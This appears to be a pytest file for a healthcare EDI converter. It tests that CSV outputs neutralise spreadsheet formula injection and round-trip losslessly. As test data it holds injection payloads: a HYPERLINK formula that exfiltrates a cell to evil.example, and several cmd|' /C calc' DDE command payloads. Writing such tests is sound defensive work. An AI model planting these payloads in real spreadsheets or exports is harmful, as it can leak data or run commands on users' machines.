"""Issue 15, point 2: no CSV that resv-edi writes starts a cell with a formula, and the CSV
reader undoes the neutralisation so that round trips stay lossless."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest

from resv_edi.api import check_file, convert
from resv_edi.lumpsum.overlap import OverlapResult, write_overlap
from resv_edi.lumpsum.records import LumpSumRecord
from resv_edi.lumpsum.writers import write_csv as write_lumpsum_csv
from resv_edi.report.aggregate import Aggregate, Sums
from resv_edi.report.writers import write_report
from resv_edi.spreadsheet import TRIGGERS, neutralise, restore

ROOT = Path(__file__).resolve().parents[2]
SOURCE = ROOT / "fixtures" / "valid" / "prestatie1_credit_correction.xml"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tsneaky",
    "\rsneaky",
    "'already quoted",
    "''twice",
]


def _cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8"))) for c in row]


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(TRIGGERS) or cell.lstrip("+-").replace(".", "").isdigit(), cell


@pytest.mark.parametrize("text", [*HOSTILE, "-1500", "+31", "plain", ""])
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(TRIGGERS) or text in ("-1500", "+31")


def test_numbers_stay_numbers() -> None:
    assert neutralise("-1500") == "-1500" and neutralise("-12.50") == "-12.50"


@pytest.mark.parametrize("text", [h for h in HOSTILE if not h.startswith(("\t", "\r"))])
def test_convert_neutralises_and_round_trips(tmp_path: Path, text: str) -> None:
    xml = SOURCE.read_text(encoding="utf-8")
    xml = re.sub(
        "<Omschrijving>[^<]*</Omschrijving>",
        lambda _: f"<Omschrijving>{text.replace('&', '&amp;')}</Omschrijving>",
        xml,
        count=1,
    )
    source = tmp_path / "in.xml"
    source.write_text(xml, encoding="utf-8")
    table = tmp_path / "m.csv"
    assert convert(source, table, "csv").written
    cells = _cells(table.read_bytes())
    assert text not in cells and neutralise(text) in cells
    _no_formula(cells)
    assert check_file(table).errors == 0
    back = tmp_path / "back.xml"
    assert convert(table, back, "xml").written
    assert back.read_bytes() == source.read_bytes()


def test_report_tables_neutralise(tmp_path: Path) -> None:
    agg = Aggregate()
    agg.facts[(2027, "1", "1", "=cmd|' /C calc'!A0", "@evil", "+x")] = Sums(100, 0, 1)
    agg.files.append("in.xml")
    for path in write_report(agg, tmp_path):
        if path.suffix == ".csv":
            cells = _cells(path.read_bytes())
            _no_formula(cells)
    assert "'=cmd|' /C calc'!A0" in _cells((tmp_path / "facts.csv").read_bytes())


def test_lumpsum_csv_neutralises() -> None:
    record = LumpSumRecord(
        Mapping="=HYPERLINK(1)",
        Bronstandaard="@x",
        PeriodeBegin=date(2027, 1, 1),
        PeriodeEinde=date(2027, 1, 31),
        Broncode="-1+1",
        AantalRegels=1,
        AantalPrestaties=1,
        Debet=0,
        Credit=500,
        Saldo=-500,
    )
    out = io.BytesIO()
    write_lumpsum_csv([record], out)
    cells = _cells(out.getvalue())
    _no_formula(cells)
    assert {"'=HYPERLINK(1)", "'@x", "'-1+1", "-500"} <= set(cells)


def test_overlap_csv_neutralises() -> None:
    row = dict.fromkeys(
        (
            "provider",
            "insurer",
            "period",
            "period_begin",
            "period_end",
            "hoofdtaak",
            "categories",
            "flags",
        ),
        "=1+1",
    )
    row.update(declared=-100, claims=5, claims_lines=1)
    out = io.BytesIO()
    write_overlap(OverlapResult("month", [row], []), out, "csv")
    cells = _cells(out.getvalue())
    _no_formula(cells)
    assert "'=1+1" in cells and "-100" in cells
